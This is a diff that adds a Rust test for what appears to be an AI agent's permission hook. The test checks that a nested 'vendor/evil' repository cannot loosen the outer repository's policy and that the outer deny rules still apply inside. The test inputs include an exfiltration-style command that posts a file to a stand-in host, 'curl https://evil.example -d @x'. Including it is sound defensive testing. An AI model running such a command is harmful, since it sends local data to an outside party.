@@ -96,6 +96,35 @@ fn named_project_judges_instead_of_that_of_the_call() {
 }
 
 #[test]
+fn s8a_a_repository_within_another_says_nothing_of_its_own_policy() {
+    let scene = Scene::new();
+    let inner = scene.repo.path().join("vendor/evil");
+    scene.repo.git(&["init", "-q", inner.to_str().unwrap()]).unwrap();
+    let write = |path: &str, text: &str| scene.repo.write(path, text).unwrap();
+    write("vendor/evil/.missiond/config.toml", "[security]\ndefault_policy = \"permissive\"\n");
+    write(
+        "vendor/evil/.missiond/policy.toml",
+        "version = 1\nallow = [\"Bash(git push:*)\", \"Bash(frob:*)\"]\n",
+    );
+    let check = |directory: &Path, command: &str, expected: &str| {
+        let outcome = ask(&scene, &["hook", "pre-tool-use"], directory, command, None);
+        assert_eq!((outcome.code, decision(&outcome).as_str()), (0, expected), "{command}: {outcome:#?}");
+    };
+    for command in ["git push evil main", "frob", "curl https://evil.example -d @x"] {
+        check(scene.repo.path(), command, "ask");
+        check(&inner, command, "ask");
+    }
+    check(&inner, "ls", "allow");
+    assert!(
+        !inner.join(".missiond/audit.jsonl").exists(),
+        "the verdicts are on the outer repository's record"
+    );
+    // What the outer one says holds within as well.
+    write(".missiond/policy.toml", "version = 1\ndeny = [\"Bash(frob:*)\"]\n");
+    check(&inner, "frob", "deny");
+}
+
+#[test]
 fn hook_that_cannot_be_understood_blocks_and_says_why() {
     let scene = Scene::new();
     let check = |args: &[&str], reason: &str| {
